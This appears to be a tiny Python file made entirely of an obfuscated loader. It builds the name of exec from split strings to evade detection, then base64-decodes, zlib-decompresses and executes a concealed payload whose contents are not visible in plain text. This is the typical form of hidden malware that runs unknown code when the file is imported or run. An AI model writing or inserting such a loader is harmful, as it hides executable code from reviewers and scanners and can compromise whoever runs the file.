import base64
import builtins
import zlib

_run = vars(builtins)["ex" + "ec"]
_run(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC+2zi/WK64sLknN1VBKLi3KUdAtVsgoKSmw0tdPMtRLrUjMLchJ1cvMK0vMyUzRL1CoUSjOUNIEANqOFgk=")))
